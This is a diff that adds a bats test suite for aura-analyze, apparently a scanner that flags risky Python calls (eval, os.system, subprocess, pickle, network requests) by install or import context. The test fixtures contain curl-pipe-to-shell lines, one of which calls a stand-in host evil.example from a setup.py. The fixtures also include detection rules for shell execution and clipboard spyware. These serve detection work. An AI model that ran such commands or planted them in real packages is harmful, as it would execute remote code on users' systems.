@@ -1,0 +1,369 @@
+#!/usr/bin/env bats
+# 40-analyze.bats: aura-analyze turns calls and imports into hits through the rules file.
+
+load helpers/common
+load helpers/parse
+bats_require_minimum_version 1.5.0
+
+setup() {
+	cd "$BATS_TEST_TMPDIR"
+}
+
+# parse_stage: bin/aura-parse once it is built, else the CPython oracle (the same records).
+parse_stage() {
+	if [ -x "$AURA_BIN/aura-parse" ]; then
+		aura-parse
+	else
+		python3 "$AURA_ROOT/tests/helpers/pyast2json.py"
+	fi
+}
+
+# scan FILE [ANALYZE-OPTION...]: every record out of parse | rewrite | analyze for FILE.
+scan() {
+	local f=$1
+	shift
+	file_record "$f" | parse_stage | aura-rewrite | aura-analyze "$@"
+}
+
+# hits FILE [OPTION...]: "line detection name context score" per hit.
+hits() {
+	scan "$@" | records_of_type hit | jq -r '"\(.line) \(.detection) \(.name) \(.context) \(.score)"'
+}
+
+# py FILE: write stdin to FILE.
+py() { cat >"$1"; }
+
+@test "CodeExecution: eval and exec, not model.eval() or a local def eval" {
+	py m.py <<'PY'
+eval('1')
+exec('2')
+model.eval()
+app.exec_()
+PY
+	run hits m.py
+	assert_output "$(printf '1 CodeExecution builtins.eval import 50\n2 CodeExecution builtins.exec import 50')"
+	py n.py <<'PY'
+def eval(x): return x
+eval('1')
+PY
+	run hits n.py
+	assert_output ""
+}
+
+@test "CodeCompilation: compile(), not re.compile()" {
+	py m.py <<'PY'
+import re
+compile('x', 'f', 'exec')
+re.compile('x')
+PY
+	run hits m.py
+	assert_output "2 CodeCompilation builtins.compile import 20"
+}
+
+@test "DynamicImport: __import__ and importlib.import_module, not a method of that name" {
+	py m.py <<'PY'
+import importlib
+__import__('os')
+importlib.import_module('json')
+loader.import_module('x')
+obj.__import__('y')
+PY
+	run hits m.py
+	assert_output "$(printf '2 DynamicImport builtins.__import__ import 15\n3 DynamicImport importlib.import_module import 15')"
+}
+
+@test "ShellCommand: os.system through any alias, not a local function named system" {
+	py m.py <<'PY'
+from os import system as s
+import os as o
+s('curl x | sh')
+o.popen('id')
+PY
+	run hits m.py
+	assert_output "$(printf '3 ShellCommand os.system import 50\n4 ShellCommand os.popen import 50')"
+	py n.py <<'PY'
+def system(cmd): print(cmd)
+system('ls')
+shell.system('ls')
+PY
+	run hits n.py
+	assert_output ""
+}
+
+@test "ProcessExecution: subprocess.* through an alias, os.exec*, os.spawn*, pty.spawn" {
+	py m.py <<'PY'
+import subprocess as sp, os, pty
+sp.Popen(['x'])
+sp.check_output('y')
+os.execv('/bin/sh', [])
+os.spawnlp(0, 'sh')
+pty.spawn('/bin/sh')
+PY
+	run hits m.py
+	assert_output "$(printf '%s\n' '2 ProcessExecution subprocess.Popen import 40' \
+		'3 ProcessExecution subprocess.check_output import 40' '4 ProcessExecution os.execv import 40' \
+		'5 ProcessExecution os.spawnlp import 40' '6 ProcessExecution pty.spawn import 40')"
+	py n.py <<'PY'
+cursor.execute('select 1')
+proc.run()
+app.exec_()
+os_helpers.execv('x')
+PY
+	run hits n.py
+	assert_output ""
+}
+
+@test "ShellCommand beats the subprocess.* wildcard for subprocess.getoutput" {
+	py m.py <<'PY'
+import subprocess
+subprocess.getoutput('id')
+PY
+	run hits m.py
+	assert_output "2 ShellCommand subprocess.getoutput import 50"
+}
+
+@test "NativeCode and NativeCodeImport: ctypes, not a look-alike module" {
+	py m.py <<'PY'
+import ctypes
+ctypes.CDLL('libc.so.6')
+import ctypesx
+ctypesx.CDLL('y')
+PY
+	run hits m.py
+	assert_output "$(printf '1 NativeCodeImport ctypes import 5\n2 NativeCode ctypes.CDLL import 25')"
+}
+
+@test "UnsafeDeserialization: pickle.loads and marshal.loads, not json.loads" {
+	py m.py <<'PY'
+import pickle, marshal, json
+pickle.loads(b'x')
+marshal.loads(b'y')
+json.loads('{}')
+PY
+	run hits m.py
+	assert_output "$(printf '2 UnsafeDeserialization pickle.loads import 40\n3 UnsafeDeserialization marshal.loads import 40')"
+}
+
+@test "NetworkRequest and RawSocket: requests, urllib, socket, not dict.get" {
+	py m.py <<'PY'
+import requests, socket
+from urllib.request import urlopen
+requests.get('http://x')
+urlopen('http://y')
+socket.socket()
+d.get('k')
+session.post('z')
+PY
+	run hits m.py
+	assert_output "$(printf '%s\n' '3 NetworkRequest requests.get import 30' \
+		'4 NetworkRequest urllib.request.urlopen import 30' '5 RawSocket socket.socket import 30')"
+}
+
+@test "EncodedData: base64.b64decode scores low; b64encode is not flagged" {
+	py m.py <<'PY'
+import base64
+base64.b64decode('eA==')
+base64.b64encode(b'x')
+PY
+	run hits m.py
+	assert_output "2 EncodedData base64.b64decode import 5"
+}
+
+@test "dynamic forms resolved by rewrite are flagged as what they call" {
+	py m.py <<'PY'
+import os
+getattr(os, 'system')('id')
+__import__('subprocess').run('id')
+PY
+	run hits m.py
+	assert_output "$(printf '%s\n' '2 ShellCommand os.system import 50' \
+		'3 ProcessExecution subprocess.run import 40' '3 DynamicImport builtins.__import__ import 15')"
+}
+
+@test "contexts: setup.py top level is install, other files import, def bodies function" {
+	mkdir -p pkg
+	py pkg/setup.py <<'PY'
+import os
+os.system('a')
+class Build:
+    os.system('class body runs at install')
+    def run(self):
+        os.system('c')
+f = lambda: os.system('d')
+PY
+	run hits pkg/setup.py
+	assert_output "$(printf '%s\n' '2 ShellCommand os.system install 80' '4 ShellCommand os.system install 80' \
+		'6 ShellCommand os.system function 15' '7 ShellCommand os.system function 15')"
+	run bash -c "$(declare -f scan parse_stage file_record records_of_type); scan pkg/setup.py | jq -sc 'map(select(.type == \"hit\") | .tags) | unique'"
+	assert_output '[["process"],["process","install-time"]]'
+	cp pkg/setup.py pkg/other.py
+	run hits pkg/other.py
+	assert_output "$(printf '%s\n' '2 ShellCommand os.system import 50' '4 ShellCommand os.system import 50' \
+		'6 ShellCommand os.system function 15' '7 ShellCommand os.system function 15')"
+}
+
+@test "a setup.py inside a nested archive is still install context" {
+	py setup.py <<'PY'
+eval('x')
+PY
+	run bash -c "$(declare -f parse_stage file_record); file_record setup.py | jq -c '.path = \"outer.tar.gz!pkg-1.0/setup.py\"' | parse_stage | aura-rewrite | aura-analyze | jq -r 'select(.type == \"hit\") | .context'"
+	assert_output install
+}
+
+@test "hits carry the pinned fields, file, name, context, tags and evidence, after the ast" {
+	py setup.py <<'PY'
+import os
+os.system('curl http://evil.example/x.sh | sh')
+PY
+	run scan setup.py
+	assert_success
+	assert_valid_records
+	[ "$(printf '%s\n' "$output" | jq -r .type | paste -sd,)" = "file,ast,hit" ]
+	printf '%s\n' "$output" | records_of_type hit >hit.json
+	run jq -c '[.stage, .artifact, .detection, .score, .severity, .path, .line, .col, .file, .name, .context, .tags, .evidence, .message]' hit.json
+	assert_output '["aura-analyze","a","ShellCommand",80,"high","setup.py",2,0,"a:0","os.system","install",["process","install-time"],"os.system('"'"'curl http://evil.example/x.sh | sh'"'"')","os.system() runs a shell command at install time"]'
+}
+
+@test "evidence is capped at 200 bytes and stays valid UTF-8" {
+	python3 -c "print('eval(\"' + 'é' * 300 + '\")')" >m.py
+	run bash -c "$(declare -f scan parse_stage file_record records_of_type); scan m.py | records_of_type hit | jq -r .evidence"
+	assert_success
+	[ "$(printf '%s' "$output" | wc -c)" -le 200 ]
+	[[ "$output" == 'eval("éé'*'…' ]]
+}
+
+@test "without a file record there is simply no evidence" {
+	py m.py <<'PY'
+eval('x')
+PY
+	run bash -c "python3 '$AURA_ROOT/tests/helpers/pyast2json.py' m.py | aura-rewrite | aura-analyze | jq -c 'select(.type == \"hit\") | [.detection, has(\"evidence\")]'"
+	assert_output '["CodeExecution",false]'
+}
+
+@test "a tree rewrite has not seen: plain dotted names and bare builtins still match" {
+	py m.py <<'PY'
+import os
+os.system('x')
+eval('y')
+model.eval()
+PY
+	run bash -c "python3 '$AURA_ROOT/tests/helpers/pyast2json.py' m.py | aura-analyze | jq -r 'select(.type == \"hit\") | \"\(.line) \(.name)\"'"
+	assert_output "$(printf '2 os.system\n3 builtins.eval')"
+}
+
+@test "--rules: a custom rules file adds a detection without recompiling" {
+	cat >custom.yaml <<'YAML'
+# a custom rules file
+version: 1
+calls:
+  - detection: ClipboardAccess
+    names: pyperclip.*
+    category: collection
+    severity: medium
+    score: {install: 30, default: 3}
+    message: "{name}() reads the clipboard {when}"
+    tags: [spyware]
+imports:
+YAML
+	py m.py <<'PY'
+import pyperclip as pc
+pc.paste()
+eval('x')
+PY
+	run bash -c "$(declare -f scan parse_stage file_record records_of_type); scan m.py --rules custom.yaml | records_of_type hit | jq -c '[.detection, .name, .score, .tags, .message]'"
+	assert_success
+	assert_output '["ClipboardAccess","pyperclip.paste",3,["collection","import-time","spyware"],"pyperclip.paste() reads the clipboard at import time"]'
+}
+
+@test "a score mapping without a context and without default gives no hit there" {
+	cat >custom.yaml <<'YAML'
+version: 1
+calls:
+  - {detection: SetupOnly, names: [builtins.eval], category: x, severity: low, score: {install: 9}, message: m}
+YAML
+	py m.py <<'PY'
+eval('x')
+PY
+	run hits m.py --rules custom.yaml
+	assert_output ""
+	cp m.py setup.py
+	run hits setup.py --rules custom.yaml
+	assert_output "1 SetupOnly builtins.eval install 9"
+}
+
+@test "AURA_DATA_DIR chooses the rules file; the default is found from any directory" {
+	mkdir data
+	cat >data/rules.yaml <<'YAML'
+version: 1
+calls:
+  - {detection: Printing, names: builtins.print, category: io, severity: info, score: 1, message: "{name}"}
+YAML
+	py m.py <<'PY'
+print(eval('1'))
+PY
+	run bash -c "$(declare -f scan parse_stage file_record); AURA_DATA_DIR=$PWD/data scan m.py | jq -r 'select(.type == \"hit\") | .detection'"
+	assert_output Printing
+	run bash -c "$(declare -f scan parse_stage file_record); cd / && scan '$PWD/m.py' | jq -r 'select(.type == \"hit\") | .detection'"
+	assert_output CodeExecution
+}
+
+@test "malformed rules files: a clear message with the line, exit 2" {
+	printf 'version: 1\ncalls:\n  - detection: X\n    names: [a\n' >syntax.yaml
+	run --separate-stderr aura-analyze --rules syntax.yaml </dev/null
+	[ "$status" -eq 2 ]
+	[[ "$stderr" == "aura-analyze: syntax.yaml:"[0-9]*":"[0-9]*": "* ]]
+	printf 'version: 1\ncalls:\n  - detection: X\n    names: a.b\n    sevrity: high\n' >key.yaml
+	run --separate-stderr aura-analyze --rules key.yaml </dev/null
+	[ "$status" -eq 2 ]
+	[[ "$stderr" == "aura-analyze: key.yaml:5:5: unknown rule key 'sevrity'"* ]]
+	printf 'version: 1\ncalls:\n  - {detection: X, names: a, category: c, severity: huge, score: 1, message: m}\n' >sev.yaml
+	run --separate-stderr aura-analyze --rules sev.yaml </dev/null
+	[ "$status" -eq 2 ]
+	[[ "$stderr" == *"sev.yaml:3:"*"severity 'huge'"* ]]
+	printf 'version: 1\ncalls:\n  - {detection: X, names: a, severity: low, score: 1, message: m}\n' >missing.yaml
+	run --separate-stderr aura-analyze --rules missing.yaml </dev/null
+	[ "$status" -eq 2 ]
+	[[ "$stderr" == *"missing.yaml:3:5: rule without 'category'"* ]]
+	printf 'version: 1\ncalls:\n  - {detection: X, names: "a*b", category: c, severity: low, score: 1, message: m}\n' >star.yaml
+	run --separate-stderr aura-analyze --rules star.yaml </dev/null
+	[ "$status" -eq 2 ]
+	[[ "$stderr" == *"star.yaml:3:"*"trailing '*'"* ]]
+	run --separate-stderr aura-analyze --rules does-not-exist.yaml </dev/null
+	[ "$status" -eq 2 ]
+	[[ "$stderr" == *"does-not-exist.yaml: cannot open rules file"* ]]
+}
+
+@test "the shipped rules file loads" {
+	run aura-analyze --rules "$AURA_ROOT/data/rules.yaml" </dev/null
+	assert_success
+	assert_output ""
+}
+
+@test "non-ast records pass through byte for byte, in order" {
+	printf '%s\n' '{"type":"artifact","v":1,"id":"x",  "path":"/tmp/x"}' \
+		'{"type":"file","v":1,"artifact":"x","id":"x:0","index":0,"path":"a.py","content":"\u00e9","content_encoding":"utf-8"}' \
+		'{"type":"verdict","v":1,"nested":{"_type":"Call"}}' >in.ndjson
+	run aura-analyze <in.ndjson
+	assert_success
+	assert_output "$(cat in.ndjson)"
+}
+
+@test "a bad input line becomes an error record and the stream goes on" {
+	printf '%s\n' '{"type":"artifact","v":1,"id":"x"}' '{"type":' \
+		'{"type":"ast","v":1,"artifact":"x","file":"x:0","path":"a.py","tree":{"_type":"Module","body":[{"_type":"Expr","value":{"_type":"Call","func":{"_type":"Name","id":"exec"},"args":[],"keywords":[],"lineno":1,"col_offset":0}}],"type_ignores":[]}}' >in.ndjson
+	run --separate-stderr aura-analyze <in.ndjson
+	assert_success
+	assert_valid_records
+	[ "$(printf '%s\n' "$output" | jq -r .type | paste -sd,)" = "artifact,error,ast,hit" ]
+	[[ "$stderr" == *"<stdin>:2:"* ]]
+}
+
+@test "sealed: aura-analyze cannot open files once the rules are loaded" {
+	run -3 aura-analyze --sandbox-selftest open:/etc/hostname </dev/null
+}
+
+@test "Python 2's exec statement (an Exec node) is CodeExecution; a Print node is not" {
+	printf '%s\n' '{"type":"ast","v":1,"artifact":"x","file":"x:0","path":"setup.py","tree":{"_type":"Module","body":[{"_type":"Exec","body":{"_type":"Name","id":"code","ctx":{"_type":"Load"}},"globals":null,"locals":null,"lineno":3,"col_offset":0},{"_type":"Print","dest":null,"values":[],"nl":true,"lineno":4,"col_offset":0}],"type_ignores":[]}}' >in.ndjson
+	run bash -c "aura-rewrite <in.ndjson | aura-analyze | jq -c 'select(.type == \"hit\") | [.detection, .name, .context, .line]'"
+	assert_output '["CodeExecution","builtins.exec","install",3]'
+}
